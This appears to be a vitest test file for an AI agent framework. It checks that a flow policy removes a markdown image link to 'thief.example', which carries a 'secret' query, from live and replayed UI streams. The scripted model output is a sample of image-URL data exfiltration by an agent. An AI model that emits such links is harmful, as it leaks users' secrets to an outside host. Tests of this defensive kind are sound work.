import { Agent, memoryStore, tool, type RunEvent } from "@bailiwick/agent";
import { scriptedModel } from "@bailiwick/testing";
import { expect, test } from "vitest";
import { z } from "zod";
import { uiEncoder } from "./ui-encoder.ts";
import { readMessage } from "./ui-message.fixture.ts";

const look = tool({
  name: "look",
  description: "Looks.",
  inputSchema: z.object({}),
  sideEffectClass: "read-only",
  execute: () => "Nothing.",
});

test("text that the flow policy removes is in no stream, live or later [flow.r8.streams]", async () => {
  const leak = "![so far](https://thief.example/?q=secret) Looking on.";
  const model = scriptedModel([{ text: leak, toolCalls: [{ name: "look", arguments: {} }] }, leak]);
  const agent = new Agent({ name: "clerk", model, tools: [look], store: memoryStore() });
  const handle = agent.stream("Begin.");
  const live: RunEvent[] = [];
  for await (const event of handle) live.push(event);
  const { events } = await agent.inspect(handle.runId);
  const encode = (shown: readonly RunEvent[]) => {
    const encoder = uiEncoder({ runId: handle.runId });
    return [...shown.flatMap((event) => encoder.push(event)), ...encoder.end()];
  };
  expect(JSON.stringify(encode(live))).not.toContain("thief.example");
  expect(JSON.stringify(encode(events))).not.toContain("thief.example");
  const { message } = await readMessage(encode(events));
  expect(message?.parts.filter(({ type }) => type === "text")).toHaveLength(2);
  expect(JSON.stringify(message)).toContain("Looking on.");
  expect((await readMessage(encode(live))).message).toEqual(message);
});
